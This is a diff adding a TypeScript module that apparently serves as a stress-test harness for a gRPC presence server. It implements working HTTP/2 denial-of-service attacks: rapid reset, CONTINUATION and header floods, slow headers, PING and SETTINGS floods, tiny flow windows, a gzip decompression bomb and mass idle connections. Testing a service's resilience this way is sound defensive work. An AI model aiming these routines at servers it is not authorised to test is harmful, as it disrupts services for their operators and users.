@@ -1,0 +1,282 @@
+import { connect, constants } from "node:http2";
+import { gzipSync } from "node:zlib";
+import { callHeaders, FLAG, FRAME, frame, headerBlock, RawConnection } from "./raw_connection.js";
+
+/** What became of an attack. */
+export interface Outcome {
+  /** Connections that the attack was carried out over, and how many of them the server closed. */
+  readonly connections: number;
+  readonly closed: number;
+  /** What it sent, in words. */
+  readonly sent: string;
+  /** Ends what it still holds open. */
+  end(): void;
+}
+
+/** Carries an attack out; resolves when the attacker has done its worst, with its connections still open. */
+export type Attack = (address: string) => Promise<Outcome>;
+
+const { END_HEADERS, END_STREAM } = FLAG;
+
+/** Over so many connections at a time. */
+const CONNECTIONS = 4;
+
+async function overSome(
+  address: string,
+  sent: string,
+  attack: (connection: RawConnection) => Promise<void>,
+  { connections: count = CONNECTIONS, answersPings = true } = {},
+): Promise<Outcome> {
+  const connections = await Promise.all(
+    Array.from({ length: count }, async () => {
+      const connection = await RawConnection.open(address, { answersPings });
+      await attack(connection);
+      return connection;
+    }),
+  );
+  // What it sent last may still be on its way; a connection that is to live is not waited for longer than this.
+  await within(
+    1000,
+    Promise.all(connections.map((connection) => connection.closed())).then(() => {}),
+  );
+  return {
+    connections: count,
+    closed: connections.filter(({ isClosed }) => isClosed).length,
+    sent,
+    end: () => {
+      for (const connection of connections) connection.destroy();
+    },
+  };
+}
+
+async function repeat(connection: RawConnection, times: number, next: (index: number) => Uint8Array): Promise<void> {
+  for (let i = 0; i < times; i++) if (!(await connection.push(next(i)))) return;
+}
+
+const rapidReset: Attack = (address) => {
+  const head = callHeaders("SubscribePresence", { "x-user-id": "mallory" });
+  return overSome(address, "20,000 streams each, reset as soon as they were opened", async (connection) => {
+    connection.greet();
+    await repeat(connection, 200, (round) =>
+      Buffer.concat(
+        Array.from({ length: 100 }, (_, i) => {
+          const id = (round * 100 + i) * 2 + 1;
+          return Buffer.concat([
+            frame(FRAME.HEADERS, END_HEADERS, id, head),
+            frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])),
+          ]);
+        }),
+      ),
+    );
+  });
+};
+
+const headerFlood: Attack = (address) => {
+  const fields = Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`x-${i}`, "v"]));
+  const head = Buffer.concat([callHeaders("GetState"), headerBlock(fields)]);
+  return overSome(address, "2,000 calls each with 1,000 header fields", async (connection) => {
+    connection.greet();
+    await repeat(connection, 2000, (i) => frame(FRAME.HEADERS, END_HEADERS | END_STREAM, i * 2 + 1, head));
+  });
+};
+
+const giantMetadata: Attack = (address) => {
+  const value = "x".repeat(15_000);
+  const parts = Array.from({ length: 20 }, (_, i) => headerBlock({ [`x-big-${i}`]: value }));
+  return overSome(address, "50 calls each with 300 KB of metadata", async (connection) => {
+    connection.greet();
+    await repeat(connection, 50, (i) => {
+      const id = i * 2 + 1;
+      const more = parts.map((part, at) =>
+        frame(FRAME.CONTINUATION, at === parts.length - 1 ? END_HEADERS : 0, id, part),
+      );
+      return Buffer.concat([frame(FRAME.HEADERS, END_STREAM, id, callHeaders("GetState")), ...more]);
+    });
+  });
+};
+
+const endlessContinuation: Attack = (address) => {
+  const part = headerBlock({ "x-more": "y".repeat(16_000) });
+  return overSome(address, "up to 160 MB of CONTINUATION each", async (connection) => {
+    connection.greet().send(frame(FRAME.HEADERS, 0, 1, callHeaders("GetState")));
+    await repeat(connection, 10_000, () => frame(FRAME.CONTINUATION, 0, 1, part));
+  });
+};
+
+/** A PING may not come between the frames of a header block, so this client cannot answer one either. */
+const slowHeaders: Attack = (address) =>
+  overSome(
+    address,
+    "a header block that goes on by a byte now and then",
+    async (connection) => {
+      const head = callHeaders("GetState");
+      connection.greet().send(frame(FRAME.HEADERS, 0, 1, head.subarray(0, 1)));
+      for (let at = 1; at < head.length && !connection.isClosed; at++) {
+        await Promise.race([connection.closed(), new Promise((resolve) => setTimeout(resolve, 100))]);
+        connection.send(frame(FRAME.CONTINUATION, 0, 1, head.subarray(at, at + 1)));
+      }
+    },
+    { answersPings: false },
+  );
+
+const noPreface: Attack = (address) =>
+  overSome(
+    address,
+    "half a preface, and then nothing",
+    async (connection) => {
+      connection.send(Buffer.from("PRI * HTTP/2.0\r\n"));
+      await connection.closed();
+    },
+    { connections: 50, answersPings: false },
+  );
+
+const tinyWindows: Attack = (address) => {
+  // SETTINGS_INITIAL_WINDOW_SIZE 1.
+  const oneByte = Buffer.from([0, 4, 0, 0, 0, 1]);
+  // Channel { type: MESSAGE, name: "crowd" }.
+  const request = Buffer.from([10, 9, 8, 1, 18, 5, ...Buffer.from("crowd")]);
+  const body = Buffer.concat([Buffer.from([0, 0, 0, 0, request.length]), request]);
+  return overSome(address, "500 readers each that take one byte", async (connection) => {
+    connection.greet(oneByte);
+    await repeat(connection, 500, (i) => {
+      const head = callHeaders("SubscribePresence", { "x-user-id": `mallory ${i}` });
+      return Buffer.concat([
+        frame(FRAME.HEADERS, END_HEADERS, i * 2 + 1, head),
+        frame(FRAME.DATA, END_STREAM, i * 2 + 1, body),
+      ]);
+    });
+  });
+};
+
+const pingFlood: Attack = (address) => {
+  const pings = Buffer.concat(Array.from({ length: 100 }, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8))));
+  return overSome(address, "100,000 PINGs each, whose answers nobody reads", async (connection) => {
+    connection.greet().stopReading();
+    await within(
+      5000,
+      repeat(connection, 1000, () => pings),
+    );
+  });
+};
+
+const settingsFlood: Attack = (address) => {
+  const settings = Buffer.concat(
+    Array.from({ length: 100 }, () => frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
+  );
+  return overSome(address, "100,000 SETTINGS each, whose answers nobody reads", async (connection) => {
+    connection.greet().stopReading();
+    await within(
+      5000,
+      repeat(connection, 1000, () => settings),
+    );
+  });
+};
+
+/** A server that has stopped reading holds the attacker up, which is an end of the attack too. */
+async function within(ms: number, attack: Promise<void>): Promise<void> {
+  let timer: NodeJS.Timeout | undefined;
+  await Promise.race([
+    attack,
+    new Promise<void>((resolve) => {
+      timer = setTimeout(resolve, ms);
+    }),
+  ]);
+  clearTimeout(timer);
+}
+
+/** Of each message all but its end. */
+const unfinishedMessages: Attack = async (address) => {
+  const body = Buffer.alloc(900_000);
+  body.writeUInt32BE(1_000_000, 1);
+  const sessions = Array.from({ length: CONNECTIONS }, () => connect(`http://${address}`));
+  let closed = 0;
+  for (const session of sessions) {
+    session.on("error", () => {});
+    session.once("close", () => closed++);
+  }
+  const sent = sessions.flatMap((session) =>
+    Array.from({ length: 100 }, () => {
+      const stream = session.request(headersOf("SetState"));
+      stream.on("error", () => {});
+      stream.resume();
+      return new Promise<void>((resolve) => {
+        stream.once("close", () => resolve());
+        stream.write(body, () => resolve());
+      });
+    }),
+  );
+  await within(
+    10_000,
+    Promise.all(sent).then(() => {}),
+  );
+  return {
+    connections: CONNECTIONS,
+    closed,
+    sent: "100 messages each of which 900 KB of 1 MB come",
+    end: () => {
+      for (const session of sessions) session.destroy();
+    },
+  };
+};
+
+/** 100 MB in 100 KB. */
+const compressedBomb: Attack = async (address) => {
+  const bomb = gzipSync(Buffer.alloc(100_000_000));
+  const prefix = Buffer.from([1, 0, 0, 0, 0]);
+  prefix.writeUInt32BE(bomb.length, 1);
+  const session = connect(`http://${address}`);
+  session.on("error", () => {});
+  const statuses = new Set<string>();
+  await Promise.all(
+    Array.from({ length: 100 }, () => {
+      const stream = session.request({ ...headersOf("BatchSetState"), "grpc-encoding": "gzip" });
+      stream.on("error", () => {});
+      const note = (headers: Record<string, unknown>): void => {
+        if (headers["grpc-status"] !== undefined) statuses.add(String(headers["grpc-status"]));
+      };
+      stream.on("response", note).on("trailers", note);
+      stream.resume();
+      stream.end(Buffer.concat([prefix, bomb]));
+      return new Promise<void>((resolve) => stream.once("close", () => resolve()));
+    }),
+  );
+  return {
+    connections: 1,
+    closed: session.destroyed ? 1 : 0,
+    sent: `100 messages of ${bomb.length} bytes that hold 100 MB each; answered with status ${[...statuses].join(", ")}`,
+    end: () => session.destroy(),
+  };
+};
+
+function headersOf(method: string): Record<string, string> {
+  return {
+    [constants.HTTP2_HEADER_METHOD]: "POST",
+    [constants.HTTP2_HEADER_PATH]: `/presence.v1.PresenceService/${method}`,
+    [constants.HTTP2_HEADER_CONTENT_TYPE]: "application/grpc",
+    te: "trailers",
+  };
+}
+
+/** `ROLLCALL_IDLE` connections, 1000 unless told otherwise, that greet and answer pings and do nothing else. */
+const idleConnections: Attack = (address) => {
+  const count = Number(process.env.ROLLCALL_IDLE ?? 1000);
+  return overSome(address, `${count} connections that do nothing`, async (connection) => void connection.greet(), {
+    connections: count,
+  });
+};
+
+/** Every attack, by what it is called, and whether the server must have closed its connections by the end. */
+export const ATTACKS: Readonly<Record<string, { readonly attack: Attack; readonly isCut: boolean }>> = {
+  "rapid reset": { attack: rapidReset, isCut: true },
+  "header flood": { attack: headerFlood, isCut: false },
+  "giant metadata": { attack: giantMetadata, isCut: false },
+  "endless CONTINUATION": { attack: endlessContinuation, isCut: true },
+  "slow headers": { attack: slowHeaders, isCut: true },
+  "no preface": { attack: noPreface, isCut: true },
+  "tiny windows": { attack: tinyWindows, isCut: false },
+  "ping flood": { attack: pingFlood, isCut: false },
+  "SETTINGS flood": { attack: settingsFlood, isCut: false },
+  "unfinished messages": { attack: unfinishedMessages, isCut: false },
+  "compressed bombs": { attack: compressedBomb, isCut: false },
+  "idle connections": { attack: idleConnections, isCut: false },
+};
